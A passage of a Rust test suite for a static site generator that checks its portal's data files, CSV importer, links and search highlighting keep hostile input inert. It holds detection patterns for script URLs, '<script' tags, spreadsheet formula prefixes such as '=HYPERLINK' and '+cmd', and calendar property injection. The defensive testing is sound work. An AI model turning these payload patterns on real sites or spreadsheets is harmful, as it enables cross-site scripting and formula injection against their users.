                .chars()
                .take_while(|c| !c.is_whitespace() && *c != '/' && *c != '>')
                .collect();
            tags.push(name);
        }
        rest = &rest[end.min(rest.len())..];
    }
    tags
}

#[test]
fn sitemap_robots_and_data_files_hold_no_markup() {
    let p = portal();
    let sitemap = std::str::from_utf8(&p.files["sitemap.xml"]).unwrap();
    let tags: BTreeSet<String> = xml_tags(sitemap).into_iter().collect();
    let allowed: BTreeSet<String> = ["urlset", "url", "loc", "lastmod"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    assert!(
        tags.is_subset(&allowed),
        "unexpected XML elements: {:?}",
        tags.difference(&allowed).collect::<Vec<_>>()
    );
    for loc in sitemap.split("<loc>").skip(1) {
        let url = loc.split("</loc>").next().unwrap();
        assert!(
            url.starts_with(BASE_URL),
            "sitemap URL outside the site: {url}"
        );
        assert!(
            !url.contains(|c: char| c.is_whitespace() || "<>\"'`{}".contains(c)),
            "sitemap URL not percent-encoded: {url}"
        );
    }
    let robots = std::str::from_utf8(&p.files["robots.txt"]).unwrap();
    for line in robots.lines() {
        assert!(
            line.is_empty()
                || ["User-agent:", "Allow:", "Disallow:", "Sitemap:"]
                    .iter()
                    .any(|k| line.starts_with(k)),
            "robots.txt line {line:?}"
        );
    }
    for (path, bytes) in &p.files {
        if path.ends_with(".json") || path.ends_with(".webmanifest") {
            serde_json::from_slice::<serde_json::Value>(bytes)
                .unwrap_or_else(|e| panic!("{path}: {e}"));
        }
        if path.ends_with(".xml")
            || path.ends_with(".ics")
            || path.ends_with(".json")
            || path.ends_with(".txt")
        {
            let t = String::from_utf8_lossy(bytes).to_ascii_lowercase();
            assert!(
                !t.contains("<script") && !t.contains("javascript:"),
                "{path} carries a payload raw"
            );
        }
    }
}

/// RFC 4180 records of a CSV text (quotes, doubled quotes, CRLF).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// (element name, attributes) of every start tag in an XML text.
fn xml_elements(xml: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap_or(rest.len());
        let tag = &rest[..end];
        rest = &rest[end..];
        if tag.starts_with(['?', '/', '!']) {
            continue;
        }
        let name: String = tag
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '/')
            .collect();
        let mut attrs = Vec::new();
        let mut a = &tag[name.len()..];
        while let Some(eq) = a.find("=\"") {
            let key = a[..eq].trim().to_string();
            let after = &a[eq + 2..];
            let close = after.find('"').unwrap_or(after.len());
            attrs.push((key, after[..close].to_string()));
            a = &after[(close + 1).min(after.len())..];
        }
        out.push((name, attrs));
    }
    out
}

/// iCalendar content lines, unfolded (RFC 5545: CRLF + space continues).
fn ics_unfold(text: &str) -> String {
    text.replace("\r\n ", "").replace("\r\n\t", "")
}

/// The open-data files, feeds and calendars keep every payload inert, as
/// docs/open-data.md promises: JSON writes `<` `>` `&` as `\u003c`…,
/// XML and iCalendar never spell `javascript:`/`vbscript:`, iCalendar has
/// no `<` `>`, no CSV cell starts a spreadsheet formula, and no payload
/// adds a calendar event or a feed element.
#[test]
fn data_files_keep_every_payload_inert() {
    let p = portal();
    let mut bad = Vec::new();
    let mut kinds = BTreeSet::new();
    let mut guarded = 0;
    for (path, bytes) in &p.files {
        let Some(ext) = path.rsplit('.').next() else {
            continue;
        };
        let text = String::from_utf8_lossy(bytes);
        let lower = text.to_lowercase();
        match ext {
            "json" => {
                kinds.insert("json");
                if let Err(e) = serde_json::from_str::<serde_json::Value>(&text) {
                    bad.push(format!("{path}: not JSON: {e}"));
                }
                for raw in ['<', '>', '&'] {
                    if text.contains(raw) {
                        bad.push(format!("{path}: raw {raw:?} in JSON"));
                    }
                }
                if lower.contains("javascript:") || lower.contains("vbscript:") {
                    bad.push(format!("{path}: a script URL spelled out in JSON"));
                }
            }
            "csv" => {
                kinds.insert("csv");
                for (r, row) in csv_cells(&text).iter().enumerate() {
                    for cell in row {
                        if cell.starts_with("'=HYPERLINK") || cell.starts_with("'+cmd") {
                            guarded += 1;
                        }
                        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                            bad.push(format!("{path}: row {r}: cell starts a formula: {cell:?}"));
                        }
                    }
                }
            }
            "ics" => {
                kinds.insert("ics");
                let unfolded = ics_unfold(&text).to_lowercase();
                if unfolded.contains(['<', '>']) {
                    bad.push(format!("{path}: raw < or > in iCalendar"));
                }
                if unfolded.contains("javascript:") || unfolded.contains("vbscript:") {
                    bad.push(format!("{path}: a script URL spelled out in iCalendar"));
                }
                // Every content line is a property name, `:`, a value; no
                // payload may add a line (or an event).
                for line in unfolded.split("\r\n").filter(|l| !l.is_empty()) {
                    let name: String = line
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
                        .collect();
                    if name.is_empty() || !line[name.len()..].starts_with([':', ';']) {
                        bad.push(format!("{path}: not a content line: {line:?}"));
                    }
                }
                let begins = unfolded.matches("\r\nbegin:vevent").count();
                let names = unfolded.matches("\r\nsummary").count();
                if begins != names {
                    bad.push(format!("{path}: {begins} events but {names} summaries"));
                }
                if unfolded
                    .split("\r\n")
                    .any(|l| l.starts_with("summary:injected"))
                {
                    bad.push(format!("{path}: a payload added a property"));
                }
                let crlf = text.matches("\r\n").count();
                if text.matches('\r').count() != crlf || text.matches('\n').count() != crlf {
                    bad.push(format!(
                        "{path}: a bare CR or LF (a line break some readers honour)"
                    ));
                }
            }
            "xml" => {
                kinds.insert("xml");
                if lower.contains("javascript:") || lower.contains("vbscript:") {
                    bad.push(format!("{path}: a script URL spelled out in XML"));
                }
                for (name, attrs) in xml_elements(&text) {
                    const ATOM: &[&str] = &[
                        "feed",
                        "title",
                        "subtitle",
                        "link",
                        "id",
                        "updated",
                        "published",
                        "author",
                        "name",
                        "uri",
                        "email",
                        "generator",
                        "entry",
                        "category",
                        "summary",
                        "content",
                        "rights",
                        "icon",
                        "logo",
                    ];
                    const SITEMAP: &[&str] = &["urlset", "url", "loc", "lastmod"];
                    if !ATOM.contains(&name.as_str()) && !SITEMAP.contains(&name.as_str()) {
                        bad.push(format!("{path}: element <{name}>"));
                    }
                    for (k, v) in attrs {
                        if k == "type" && matches!(v.as_str(), "html" | "xhtml") {
                            bad.push(format!(
                                "{path}: <{name} type={v}> (a reader renders it as HTML)"
                            ));
                        }
                        if k == "href" && !v.starts_with(BASE_URL) {
                            bad.push(format!("{path}: <{name} href={v:?}> outside the site"));
                        }
                        // `term` and `label` are names, not links.
                        let url_attr = matches!(k.as_str(), "href" | "src" | "uri" | "scheme");
                        if k.starts_with("on") || (url_attr && dangerous_scheme(&v)) {
                            bad.push(format!("{path}: <{name} {k}={v:?}>"));
                        }
                    }
                }
            }
            _ => {}
        }
    }
    for k in ["json", "csv", "ics", "xml"] {
        assert!(
            kinds.contains(k),
            "no .{k} file was built: the check would prove nothing"
        );
    }
    assert!(
        guarded >= 4,
        "the formula payloads never reached a CSV cell ({guarded})"
    );
    bad.sort();
    bad.dedup();
    assert!(
        bad.is_empty(),
        "{} problems; first 40:\n{}",
        bad.len(),
        bad.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
}

/// The portal's own open-data CSV (full of payloads) imported back with
/// `tsunagu import csv`: no crash, no field smuggled in through a cell,
/// and what builds holds no live markup.
#[test]
fn hostile_open_data_imports_stay_text() {
    let p = portal();
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("portal");
    write(&root, "site.toml", &site_toml());
    for dir in ["centers", "organizations", "events", "cafeterias", "pages"] {
        std::fs::create_dir_all(root.join("content").join(dir)).unwrap();
    }
    for (csv, kind) in [
        ("data/public-facilities.csv", "cafeteria"),
        ("data/events.csv", "event"),
    ] {
        let file = p.out.join(csv);
        assert!(file.is_file(), "{csv} was not built");
        let o = tsunagu(&[
            "import",
            "csv",
            file.to_str().unwrap(),
            "--kind",
            kind,
            "--root",
            root.to_str().unwrap(),
        ]);
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(
            !stderr.contains("panicked") && o.status.code() != Some(101),
            "import of {csv} crashed:\n{stderr}"
        );
    }
    let imported = tree(&root.join("content"));
    assert!(
        imported.len() > TEXT_PAYLOADS.len(),
        "only {} files imported",
        imported.len()
    );
    let o = tsunagu(&[
        "check",
        "--root",
        root.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(!stderr.contains("panicked"), "check crashed:\n{stderr}");
    let errors: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|d| d["severity"] == "error")
        .collect();
    // A payload may not add a field: no unknown or misplaced field, no
    // syntax error in a file the importer wrote.
    let smuggled: Vec<_> = errors
        .iter()
        .filter(|d| {
            matches!(
                d["code"].as_str(),
                Some("unknown-field" | "field-not-for-kind" | "yaml-syntax" | "not-a-mapping")
            )
        })
        .collect();
    assert!(
        smuggled.is_empty(),
        "the importer wrote files that do not parse as written: {smuggled:#?}"
    );
    // Build what is valid (drop the files with errors) and check it.
    for d in &errors {
        if let Some(f) = d["file"].as_str() {
            let _ = std::fs::remove_file(root.join(f));
        }
    }
    let kept = tree(&root.join("content")).len();
    assert!(
        kept > TEXT_PAYLOADS.len(),
        "only {kept} imported entries are valid: the build would prove little"
    );
    let out = tmp.path().join("public");
    assert_ok(&build(&root, &out));
    let mut bad = Vec::new();
    for (path, bytes) in tree(&out) {
        if path.ends_with(".html") {
            bad.extend(html_violations(
                &path,
                &Html::parse_document(std::str::from_utf8(&bytes).unwrap()),
            ));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn nothing_is_written_outside_the_output_folder() {
    let p = portal();
    let parent = p.out.parent().unwrap();
    let names: BTreeSet<String> = std::fs::read_dir(parent)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        ["portal", "public"]
            .iter()
            .map(|s| s.to_string())
            .collect::<BTreeSet<_>>()
    );
    assert!(!Path::new("/tmp/tsunagu-escape").exists());
    for path in p.files.keys() {
        assert!(
            path.split('/')
                .all(|part| !part.is_empty() && part != "." && part != ".."),
            "odd output path {path}"
        );
    }
    assert!(p.root.join("site.toml").exists());
}

#[test]
fn hostile_links_are_refused_or_made_harmless() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("portal");
    copy_dir(&repo().join("tests/fixtures/portals/small"), &root);
    let entries = url_entries();
    // First the refused ones: each must be an error for that file.
    for (rel, text, ok) in &entries {
        if !ok {
            write(&root, rel, text);
        }
    }
    let o = tsunagu(&[
        "check",
        "--root",
        root.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert!(!o.status.success());
    let stdout = String::from_utf8_lossy(&o.stdout);
    let diags: Vec<serde_json::Value> = stdout
        .lines()
        .chain(String::from_utf8_lossy(&o.stderr).lines())
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    for (rel, _, ok) in &entries {
        if *ok {
            continue;
        }
        for field in ["online"] {
            assert!(
                diags.iter().any(|d| d["file"] == rel.as_str()
                    && d["severity"] == "error"
                    && d["field"].as_str().is_some_and(|f| f.starts_with(field))),
                "{rel}: a dangerous `{field}` was not refused: {diags:?}"
            );
        }
        std::fs::remove_file(root.join(rel)).unwrap();
    }
    // Then the others: those refused are left out (a refused
    // `registration` must say so in its own file); the rest build, and
    // every link stays harmless.
    for (rel, text, ok) in &entries {
        if *ok {
            write(&root, rel, text);
        }
    }
    let o = tsunagu(&[
        "check",
        "--root",
        root.to_str().unwrap(),
        "--format",
        "json",
    ]);
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let Ok(d) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if d["severity"] == "error" {
            let rel = d["file"].as_str().unwrap_or_default().to_string();
            assert!(
                (rel.contains("bad-registration-") && d["field"] == "registration")
                    || (rel.contains("odd-email-") && d["field"] == "email"),
                "unexpected error: {d}"
            );
            let _ = std::fs::remove_file(root.join(&rel));
        }
    }
    let out = tmp.path().join("public");
    assert_ok(&build(&root, &out));
    let files = tree(&out);
    let mut bad = Vec::new();
    for (path, bytes) in &files {
        if path.ends_with(".html") {
            bad.extend(html_violations(
                path,
                &Html::parse_document(std::str::from_utf8(bytes).unwrap()),
            ));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
    let page = String::from_utf8_lossy(&files["organizations/url-quote/index.html"]).into_owned();
    assert!(!page.contains("\"><script>"), "{page}");
}

/// Markup in a search result field: only `<mark>`, no attributes; the
/// rest is text.
fn highlight_problems(field: &str, value: &str) -> Vec<String> {
    let frag = Html::parse_fragment(value);
    let mut bad = Vec::new();
    for el in frag.select(&sel("*")) {
        let v = el.value();
        if matches!(v.name(), "html" | "body" | "head") {
            continue;
        }
        if v.name() != "mark" || v.attrs().next().is_some() {
            bad.push(format!("{field}: <{}> in {value:?}", v.name()));
        }
    }
    bad
}

#[test]
fn search_results_highlight_with_mark_only() {
    let p = portal();
    let mut seen = 0;
    let mut bad = Vec::new();
    for word in [
        "alert",
        "script",
        "javascript",
        "onerror",
        "summary",
        "iframe",
        "title",
    ] {
        let o = tsunagu(&[
            "search",
            "--json",
            "--limit",
            "1000",
            "--root",
            p.root.to_str().unwrap(),
            "--out",
            p.out.to_str().unwrap(),
            word,
        ]);
        assert_ok(&o);
        let hits: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
        for h in &hits {
            for field in [
                "summary_highlighted",
                "name_highlighted",
                "title_highlighted",
                "body_highlighted",
            ] {
                if let Some(v) = h.get(field).and_then(|v| v.as_str()) {
                    seen += 1;
                    bad.extend(highlight_problems(field, v));
                    // Without the <mark>s it is the plain field, escaped.
                    let plain_field = field.trim_end_matches("_highlighted");
                    if let Some(plain) = h.get(plain_field).and_then(|v| v.as_str()) {
                        let frag = Html::parse_fragment(v);
                        let text: String = frag.root_element().text().collect();
                        // The HTML parser turns U+0000 into U+FFFD, CRLF and CR into LF.
                        let norm = |s: &str| {
                            s.replace(['\0', '\u{fffd}'], "")
                                .replace("\r\n", "\n")
                                .replace('\r', "\n")
                        };
                        if norm(&text) != norm(plain) {
                            bad.push(format!(
                                "{field} is not the escaped {plain_field}: {v:?} vs {plain:?}"
                            ));
                        }
                    }
                }
            }
        }
    }
    assert!(seen > 20, "search found too few payload entries ({seen})");
    bad.sort();
    bad.dedup();
    assert!(
        bad.is_empty(),
        "{} problems:\n{}",
        bad.len(),
        bad.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
}
